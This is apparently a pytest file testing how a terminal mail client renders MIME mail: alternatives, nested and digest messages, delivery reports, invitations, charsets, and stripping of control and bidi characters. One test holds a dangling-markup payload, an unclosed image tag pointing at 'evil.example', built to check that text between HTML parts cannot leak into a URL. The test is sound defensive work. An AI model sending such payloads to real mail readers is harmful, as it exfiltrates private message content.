import base64
import subprocess
import sys

import pytest

from tests.hostile.mails import hostile_mails
from tuimail.errors import NotFound
from tuimail.mime.body import MAX_MAIL_DEPTH
from tuimail.mime.budget import MAX_MAILS_INSIDE
from tuimail.mime.render import part_content, render_mail, searchable_text
from tuimail.model.caution import CautionKind
from tuimail.model.glyphs import FORBIDDEN
from tuimail.model.part import Searchable

HEAD = "From: Ann <ann@example.org>\r\nSubject: s\r\n"
TEXT = "Content-Type: text/plain; charset=utf-8\r\n\r\n"
HTML = "Content-Type: text/html; charset=utf-8\r\n\r\n"


def multipart(subtype, *parts, boundary="b"):
    body = "".join(f"--{boundary}\r\n{part}\r\n" for part in parts)
    stated = f"Content-Type: multipart/{subtype}; boundary={boundary}\r\n\r\n"
    return f"{stated}{body}--{boundary}--\r\n"


def rendered(text, **how):
    return render_mail((HEAD + text).encode(), **how)


def texts(mail):
    return [line.text for line in mail.lines]


def test_plain_text_is_preferred_to_html_unless_asked():
    both = multipart("alternative", TEXT + "plain", HTML + "<p>rich</p>")
    assert texts(rendered(both)) == ["plain"]
    assert texts(rendered(both, prefer_html=True)) == ["rich"]


def test_a_plain_text_that_sends_to_the_html_gives_way():
    both = multipart("alternative", TEXT + "View this mail in your browser", HTML + "<p>rich</p>")
    assert texts(rendered(both)) == ["rich"]


@pytest.mark.parametrize("body", ["", "\r\n", "\r\n\r\n \r\n"])
def test_a_mail_without_text_is_empty(body):
    mail = rendered(f"\r\n{body}")
    assert not "".join(texts(mail)).strip()
    assert mail.snippet == ""


def test_what_has_no_header_is_shown_as_it_is():
    assert texts(render_mail(b"no mail")) == ["no mail"]
    assert texts(render_mail(b"\r\nbody alone")) == ["body alone"]


def test_lines_that_end_in_cr_alone_are_read():
    mail = render_mail((HEAD + "\r\nHello\r\nworld\r\n").replace("\r\n", "\r").encode())
    assert mail.envelope.subject == "s"
    assert mail.envelope.from_[0].addr_spec == "ann@example.org"
    assert texts(mail) == ["Hello", "world"]


@pytest.mark.parametrize("encoding", ["8bit", "base64"])
def test_a_mail_inside_of_a_mail_is_shown_below_its_head(encoding):
    inner = "From: =?utf-8?q?B=C3=B6b?= <bob@x>\r\nSubject: inner\r\n\r\ninner words"
    content = base64.b64encode(inner.encode()).decode() if encoding == "base64" else inner
    part = f"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n{content}"
    mail = rendered(multipart("mixed", TEXT + "see below", part))
    assert texts(mail) == [
        *("see below", "", "── inner.eml ──", ""),
        *("From: Böb <bob@x>", "Subject: inner", "", "inner words"),
    ]
    assert [part.filename.raw for part in mail.attachments] == ["inner.eml"]
    assert mail.snippet.startswith("see below From: ")


def test_every_mail_of_a_digest_is_shown():
    digest = multipart("digest", *(f"\r\nSubject: d{n}\r\n\r\nbody {n}" for n in range(50)))
    shown = texts(rendered(digest))
    assert shown[:3] == ["Subject: d0", "", "body 0"]
    assert f"body {MAX_MAILS_INSIDE - 1}" in shown
    assert f"body {MAX_MAILS_INSIDE}" not in shown
    assert shown.count("(The mail in here is left out.)") == 50 - MAX_MAILS_INSIDE


def test_mails_inside_of_mails_end_at_a_depth():
    nested = "Content-Type: message/rfc822\r\n\r\n" * 200 + TEXT + "deep"
    assert texts(rendered(nested))[-1] == "(The mail in here is left out.)"
    shallow = "Content-Type: message/rfc822\r\n\r\n" * MAX_MAIL_DEPTH + TEXT + "deep"
    assert texts(rendered(shallow))[-1] == "deep"


def test_the_mail_a_report_returns_is_not_shown():
    status = (
        "Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; x\r\n\r\n"
        "Final-Recipient: rfc822; u@v.example\r\nAction: failed\r\nStatus: 5.1.1"
    )
    returned = "Content-Type: message/rfc822\r\n\r\nSubject: orig\r\n\r\nmine"
    mail = rendered(multipart("report", TEXT + "Sorry.", status, returned))
    assert texts(mail) == [
        "Delivery report: failed for u@v.example (5.1.1)",
        *("About:   orig", "", "Sorry."),
    ]
    assert [part.content_type for part in mail.attachments] == ["message/rfc822"]


def test_an_invitation_stands_before_the_text():
    calendar = (
        "Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\n"
        "BEGIN:VEVENT\r\nSUMMARY:Lunch\r\nDTSTART:20260310T113000Z\r\nEND:VEVENT\r\nEND:VCALENDAR"
    )
    shown = texts(rendered(multipart("alternative", TEXT + "Please come.", calendar)))
    assert shown == ["Invitation: Lunch", "When:   Tue 2026-03-10 11:30 (UTC)", "", "Please come."]
    assert texts(rendered(calendar)) == shown[:2]


def test_text_of_an_unknown_kind_is_shown():
    assert texts(rendered("Content-Type: text/x-strange\r\n\r\nwords")) == ["words"]


def test_html_without_a_tag_keeps_its_lines():
    assert texts(rendered(HTML + "one\r\ntwo")) == ["one", "two"]


def test_two_parts_of_html_cannot_enclose_the_text_between_them():
    mail = rendered(
        multipart("mixed", HTML + '<img src="http://evil.example/?', TEXT + "secret", HTML + '">')
    )
    assert "secret" in texts(mail)
    assert not any("secret" in link.url.raw for link in mail.links)


def test_a_snippet_has_words_alone():
    table = "<table border=1><tr><th>a<th>b<tr><td>1<td>2</table>"
    assert rendered(HTML + table).snippet == "a b 1 2"
    quoted = TEXT + "On Monday Bob wrote:\r\n> old\r\n\r\nnew words\r\n-- \r\nAnn"
    assert rendered(quoted).snippet == "new words"


def test_the_content_of_a_part_is_decoded():
    raw = (HEAD + multipart("mixed", TEXT + "a", TEXT + "b")).encode()
    assert part_content(raw, "2") == b"b"
    with pytest.raises(NotFound):
        part_content(raw, "3")


def test_the_index_keeps_text_names_and_whether_files_hang_on():
    file = "Content-Type: application/pdf; name=plan.pdf\r\n\r\nx"
    found = searchable_text((HEAD + multipart("mixed", TEXT + "words", file)).encode())
    assert found == Searchable("words", "plan.pdf", "words", has_attachments=True)


@pytest.mark.parametrize("prefer_html", [False, True])
def test_nothing_forbidden_is_left_in_a_hostile_mail(prefer_html):
    forbidden = {chr(code) for code in range(0xA0)} - set(map(chr, range(0x20, 0x7F)))
    forbidden |= set("\u202e\u2066\u200b\u2028\ufeff")
    assert "\u202a-\u202e" in FORBIDDEN
    for raw in hostile_mails(300, seed=7):
        mail = render_mail(raw, prefer_html=prefer_html)
        for line in mail.lines:
            assert forbidden.isdisjoint(line.text)
        assert forbidden.isdisjoint(mail.snippet)
        assert forbidden.isdisjoint("".join(said.text for said in mail.warnings))


def test_the_parser_of_html_is_loaded_only_for_html():
    code = (
        "import sys; from tuimail.mime.render import render_mail; render_mail(b'From: a@x\\n\\nhi');"
        "sys.exit(any(name.split('.')[0] in {'selectolax', 'email'} for name in sys.modules))"
    )
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0


def test_a_charset_that_was_refused_or_guessed_is_said_above_the_text():
    refused = render_mail(b"Content-Type: text/plain; charset=utf-7\r\n\r\nhi +AOk-")
    guessed = render_mail(b"From: a@b.example\r\n\r\n" + "Добрый день, Анна".encode("koi8-r"))
    assert [w.text for w in refused.warnings if w.kind is CautionKind.CHARSET] == [
        "The text is marked as utf-7, which is never read; it is as it came."
    ]
    assert guessed.plain_text == "Добрый день, Анна"
    assert any("KOI8-U" in w.text for w in guessed.warnings if w.kind is CautionKind.CHARSET)


def test_html_without_a_label_is_read_by_what_it_says_itself():
    html = "<meta charset=windows-1251><p>привет".encode("cp1251")
    mail = render_mail(b"Content-Type: text/html\r\n\r\n" + html)
    assert mail.plain_text == "привет"
    assert not [w for w in mail.warnings if w.kind is CautionKind.CHARSET]
